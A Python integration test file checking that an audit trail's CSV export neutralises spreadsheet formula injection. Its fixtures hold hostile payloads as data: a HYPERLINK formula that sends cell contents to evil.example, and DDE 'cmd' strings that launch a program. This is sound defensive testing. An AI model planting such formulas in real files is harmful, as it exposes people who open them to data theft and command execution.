"""The audit trail's CSV export is safe to open in a spreadsheet (OWASP, CSV Injection): a text cell
beginning with = + - @ tab or carriage return is shown as text, never run as a formula; separators
and quotes inside a cell cannot start a new one; numbers stay numbers, negative ones included."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any

import pytest
from azure.core.exceptions import ServiceRequestError

from local_runner.azurite import Azurite
from shared.adapters.tables import TableStore
from shared.bootstrap import Services, set_services
from shared.config.schema import parse_config
from shared.domain.model import ChangeKind, ChangeStatus, PlannedChange
from shared.services.decisions import audit_csv, audit_query, audit_trail, decide, spreadsheet_text
from shared.settings import Settings
from tests.http_support import call, http_routes

pytestmark = pytest.mark.integration

TENANT = "1f0a5b2c-0001-4a1b-8c2d-000000000001"
SPB = "cbdc14ab-d96c-4c30-b9f4-6ada7cdc1d46"
NOW = datetime(2026, 11, 25, 2, tzinfo=UTC)
CONFIG = {
    "psaConnections": [{"name": "cw", "type": "connectwise", "url": "https://cw.example.com/v4_6_release/apis/3.0",
                        "companyId": "msp", "publicKey": {"setting": "A"}, "privateKey": {"setting": "B"},
                        "clientId": "12345678-1234-1234-1234-123456789012"}],
    "tenants": [{"tenantId": TENANT, "name": "-Fabrikam, \"Ltd\"; =1+2", "companies": [
        {"psa": "cw", "companyId": "19", "licences": [{"skuId": SPB, "agreementId": "100", "lineId": "500"}]}]}],
}
COMMENT = '=HYPERLINK("https://evil.example/?"&A1,"Click for details")'
ACTOR = "=cmd|' /C calc'!A0"


@pytest.fixture
def services(azurite: Azurite, store: TableStore) -> Iterator[Services]:
    settings = Settings.from_environment({"SEATSYNC_STORAGE_CONNECTION_STRING": azurite.connection_string,
                                          "SEATSYNC_TABLE_PREFIX": store.prefix})
    installed = Services(settings, store=store)
    installed.config_repository.save(parse_config(CONFIG), "setup", "fixture")
    set_services(installed)
    yield installed
    set_services(None)


def held_decrease(services: Services) -> str:
    """A decrease of 5 seats held for approval, with its prorate credit of -13.20."""
    change = PlannedChange(
        change_id="c" * 24, kind=ChangeKind.SET_QUANTITY, tenant_id=TENANT, company_id="19", psa="cw",
        agreement_id="100", line_id="500", sku_id=SPB, old_quantity=25, new_quantity=20,
        reason="@SUM(1+1)*cmd|' /C calc'!A0 users left", status=ChangeStatus.HELD, mapping_key="m",
        label="+Business Premium", unit_price=Decimal("-2.64"), amount=Decimal("-13.20"), hold_key="h" * 24,
        effective_date=date(2026, 11, 25))
    assert services.decisions.hold(change, "20261125T020000Z-00000000", NOW)
    return "h" * 24


def test_a_comment_and_an_actor_beginning_with_equals_are_exported_as_text(services: Services) -> None:
    hold_key = held_decrease(services)
    decide(services.decisions, services.config(), hold_key, False, ACTOR, COMMENT, NOW)
    [route] = [r for r in http_routes() if r.template == "audit"]
    answer = call(route, "GET", params={"customer": TENANT, "format": "csv"})
    assert answer.status_code == 200 and answer.mimetype == "text/csv"
    text = answer.get_body().decode()
    rejected = next(row for row in csv.DictReader(io.StringIO(text)) if row["event"] == "rejected")
    assert rejected["reason"] == "'" + COMMENT, "the comment is text, not a formula"
    assert rejected["actor"] == "'" + ACTOR, "the actor's name is text, not a formula"
    assert rejected["licence"] == "'+Business Premium"
    assert rejected["tenant_name"] == "'-Fabrikam, \"Ltd\"; =1+2", "a separator or quote cannot start a cell"
    assert (rejected["before"], rejected["after"], rejected["amount"], rejected["unit_price"]) == (
        "25", "20", "-13.20", "-2.64"), "numbers, negative ones too, are read as numbers"
    # As a spreadsheet reads the file: no cell of text begins with a formula character ...
    for row in csv.reader(io.StringIO(text)):
        assert not [cell for cell in row if cell.startswith(("=", "+", "@", "\t", "\r"))]
    # ... every text cell is quoted, numbers are not
    line = next(row for row in text.splitlines() if ',"rejected",' in row)
    assert '"\'' + ACTOR + '"' in line
    assert ',25,20,-13.20,"",-2.64,' in line


def test_the_json_form_keeps_the_values_as_they_are(services: Services) -> None:
    hold_key = held_decrease(services)
    decide(services.decisions, services.config(), hold_key, True, ACTOR, COMMENT, NOW)
    [route] = [r for r in http_routes() if r.template == "audit"]
    entries = json.loads(call(route, "GET", params={"customer": TENANT}).get_body())["entries"]
    approved = next(e for e in entries if e["event"] == "approved")
    assert (approved["actor"], approved["reason"]) == (ACTOR, COMMENT)
    assert approved["amount"] == "-13.20"


def test_every_formula_character_is_neutralised_and_nothing_else() -> None:
    for value in ("=1+2", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"):
        assert spreadsheet_text(value) == "'" + value
    for value in ("Fabrikam", "1-2", "a=b", "'=already", "", " =1"):
        assert spreadsheet_text(value) == value


def test_the_command_line_export_is_the_same(services: Services) -> None:
    hold_key = held_decrease(services)
    decide(services.decisions, services.config(), hold_key, False, ACTOR, COMMENT, NOW)
    entries = audit_trail(services.decisions, audit_query(services.config(), TENANT, None, None))
    rows = list(csv.DictReader(io.StringIO(audit_csv(entries))))
    assert {row["actor"] for row in rows if row["event"] == "rejected"} == {"'" + ACTOR}


class AuditRefusedOnce:
    """The store as it is, except that the first audit write finds storage unreachable."""

    def __init__(self, inner: Any) -> None:
        self._inner = inner
        self.refused = 0

    def __getattr__(self, name: str) -> Any:
        return getattr(self._inner, name)

    def audit(self, entry: Any) -> None:
        if not self.refused:
            self.refused += 1
            raise ServiceRequestError("connection refused")
        self._inner.audit(entry)


def test_a_decision_keeps_its_audit_entry_through_a_brief_storage_outage(services: Services) -> None:
    hold_key = held_decrease(services)
    flaky = AuditRefusedOnce(services.decisions)
    decide(flaky, services.config(), hold_key, True, "admin@msp.example", "confirmed", NOW)  # type: ignore[arg-type]
    assert flaky.refused == 1
    trail = audit_trail(services.decisions, audit_query(services.config(), TENANT, None, None))
    assert [(e.event, e.actor, e.reason) for e in trail if e.event == "approved"] == [
        ("approved", "admin@msp.example", "confirmed")]
